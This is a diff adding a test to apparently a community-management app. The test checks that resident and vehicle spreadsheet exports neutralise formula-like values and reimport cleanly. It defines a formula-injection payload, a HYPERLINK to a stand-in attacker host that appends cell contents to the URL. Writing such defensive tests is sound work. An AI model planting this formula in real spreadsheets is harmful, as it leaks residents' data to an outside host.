@@ -243,3 +243,33 @@ def test_export_queries_do_not_grow_with_rows(client, site, kind):
 def test_an_unknown_kind_is_not_found(client, site):
     assert download(client, site.manager, site.community, "export", kind="bills").status_code == 404
     assert download(client, site.manager, site.community, "template").status_code == 404
+
+
+LURE = '=HYPERLINK("http://evil.example/?"&B2&C2,"Click")'
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reimports(client, site):
+    owner = site.residents["owner"]
+    owner.emergency_contact, owner.notes = LURE, "-5"
+    owner.save()
+    f.VehicleFactory(community=site.community, plate="新B54321", description="@SUM(1)")
+    before = register_state(site.community)
+
+    residents, content = workbook(export_residents(client, site.manager, site.community, full=True))
+    vehicles, _ = workbook(
+        download(client, site.manager, site.community, "export", kind="vehicles")
+    )
+
+    cells = [c for book in (residents, vehicles) for ws in book for row in ws for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    row = next(r for r in residents["住户"].iter_rows(min_row=2) if r[0].value == "Wang Fang")
+    assert LURE in [c.value for c in row] and "-5" in [c.value for c in row]
+    assert all(c.quotePrefix for c in row if c.value in (LURE, "-5"))
+    assert ("新B54321", None, None, "@SUM(1)") in rows(vehicles["车辆"])
+    upload = SimpleUploadedFile("residents.xlsx", content)
+    report = register_import(actor=site.manager, community=site.community, upload=upload)
+    assert report.ok, report.errors
+    assert report.counts["residents"].changed == 0
+    after = register_state(site.community)
+    after["audit"] -= 1  # the residents' export, with its reason
+    assert after == before
